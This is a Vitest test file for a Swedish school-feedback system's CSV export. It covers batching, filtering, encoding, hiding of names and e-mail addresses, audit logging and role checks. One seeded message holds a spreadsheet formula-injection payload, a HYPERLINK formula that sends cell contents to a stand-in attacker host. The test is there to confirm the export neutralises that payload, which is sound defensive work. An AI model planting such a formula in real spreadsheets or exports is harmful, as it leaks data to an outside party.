import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { PrismaClient } from "@/lib/db/generated/client";
import type { SynpunktStatus, SynpunktTyp } from "@/lib/db/generated/enums";
import { ForbiddenError } from "@/lib/auth/permissions";
import { exportBatcher, exportera } from "@/lib/synpunkter/export";
import { inkorg, type Inkorgsfilter } from "@/lib/synpunkter/inkorg";
import { seededDatabase, type Demoaktor } from "../support/seeded";

let db: PrismaClient;
let aktor: Record<string, Demoaktor>;
let drop: () => Promise<void>;
let skola: { id: string; slug: string; namn: string };

async function arende(typ: SynpunktTyp, status: SynpunktStatus, skapad: Date, meddelande = "Om skolgården", skolaId: string | null = null) {
  return db.synpunkt.create({
    data: { typ, status, meddelande, skapad, skolaId, namn: "Anna Andersson", epost: "anna@exempel.se", idempotensnyckel: randomUUID() },
  });
}

const bas = Date.UTC(2025, 2, 1, 9);
beforeAll(async () => {
  ({ db, aktor, drop } = await seededDatabase("export"));
  skola = await db.skola.findFirstOrThrow({ select: { id: true, slug: true, namn: true }, orderBy: { namn: "asc" } });
  // Eight klagomål about the schoolyard (some sharing a second, which the keyset's id separates),
  // and cases that the filter must leave out.
  for (let i = 0; i < 8; i++) await arende("KLAGOMAL", "MOTTAGEN", new Date(bas + Math.floor(i / 2) * 60_000), `Skolgården ${i}`, skola.id);
  await arende("KLAGOMAL", "AVSLUTAD", new Date(bas), "Skolgården, avslutad");
  await arende("FRAGA", "MOTTAGEN", new Date(bas), "Skolgården, en fråga");
  await arende("KLAGOMAL", "MOTTAGEN", new Date(bas), "Matsalen");
  await arende(
    "BEROM",
    "BESVARAD",
    new Date(bas + 3_600_000),
    '=HYPERLINK("http://angripare.example/?"&A1;"Klicka")\nrad två; med "citat"',
  );
});
afterAll(() => drop());

const filter: Inkorgsfilter = { typ: "KLAGOMAL", status: "MOTTAGEN", q: "skolgården" };

async function text(strom: ReadableStream<Uint8Array>) {
  return Buffer.from(await new Response(strom).arrayBuffer()).toString("utf8");
}

describe("the CSV export", () => {
  it("reads the inbox's filter in keyset batches, newest first, each case once", async () => {
    const batcher: string[][] = [];
    for await (const b of exportBatcher(db, filter, 3)) batcher.push(b.map((r) => r.meddelande));
    expect(batcher.map((b) => b.length)).toEqual([3, 3, 2]);
    // Exactly what the inbox lists for the same filter, in the same order.
    expect(batcher.flat()).toEqual((await inkorg(db, filter)).rader.map((r) => r.meddelande));
    expect(new Set(batcher.flat()).size).toBe(8);
  });

  it("ends cleanly when the last batch is full", async () => {
    const storlekar: number[] = [];
    for await (const b of exportBatcher(db, filter, 4)) storlekar.push(b.length);
    expect(storlekar).toEqual([4, 4]);
  });

  it("ignores the inbox's page position and exports every matching case", async () => {
    const csv = await text(await exportera(db, aktor.HANDLAGGARE, { efter: "1740819600000_zzzz" }, 5));
    expect(csv.trim().split("\r\n")).toHaveLength(1 + 12);
  });

  it("writes UTF-8 with BOM, semicolons, quoted cells and no formulas, and no name or e-mail", async () => {
    const csv = await text(await exportera(db, aktor.HANDLAGGARE, { typ: "BEROM" }));
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const [rubrik, rad, ...rest] = csv.slice(1).split("\r\n");
    expect(rubrik).toBe('"Ärendenummer";"Typ";"Status";"Skola";"Mottagen";"Första svar";"Avslutad";"Handläggare";"Meddelande"');
    expect(rad).toMatch(/^"GF-2025-\d{5}";"Beröm";"Besvarad";"";"2025-03-01 11:00";"";"";"";/);
    // The message's line break stays inside its quoted cell, so the row ends after it.
    expect(rad.endsWith(`"'=HYPERLINK(""http://angripare.example/?""&A1;""Klicka"")\nrad två; med ""citat"""`)).toBe(true);
    expect(rest).toEqual([""]);
    expect(csv).not.toContain("anna@exempel.se");
    expect(csv).not.toContain("Anna Andersson");
  });

  it("names the school and times in Swedish time", async () => {
    const csv = await text(await exportera(db, aktor.ADMIN, { ...filter, skola: skola.slug }));
    const rader = csv.trim().split("\r\n").slice(1);
    expect(rader).toHaveLength(8);
    expect(rader[0]).toContain(`"Klagomål";"Mottagen";"${skola.namn}";"2025-03-01 10:03"`);
  });

  it("is written to the audit log with who and which filter", async () => {
    const fore = await db.granskningshandelse.count({ where: { handling: "synpunkt.exportera" } });
    await text(await exportera(db, aktor.HANDLAGGARE, { ...filter, efter: "1740819600000_abc" }));
    const logg = await db.granskningshandelse.findMany({ where: { handling: "synpunkt.exportera" }, orderBy: { tidpunkt: "desc" } });
    expect(logg).toHaveLength(fore + 1);
    expect(logg[0]).toMatchObject({
      aktorId: aktor.HANDLAGGARE.id,
      aktorNamn: aktor.HANDLAGGARE.name,
      objektTyp: "synpunkt",
      objektId: "status=MOTTAGEN&typ=KLAGOMAL&q=skolg%C3%A5rden",
      data: { status: "MOTTAGEN", typ: "KLAGOMAL", q: "skolgården" },
    });
  });

  for (const roll of ["REDAKTOR", "REKTOR"] as const) {
    it(`is refused to a ${roll.toLowerCase()}, and nothing is logged`, async () => {
      const fore = await db.granskningshandelse.count();
      await expect(exportera(db, aktor[roll], filter)).rejects.toBeInstanceOf(ForbiddenError);
      await expect(exportera(db, null, filter)).rejects.toBeInstanceOf(ForbiddenError);
      expect(await db.granskningshandelse.count()).toBe(fore);
    });
  }
});
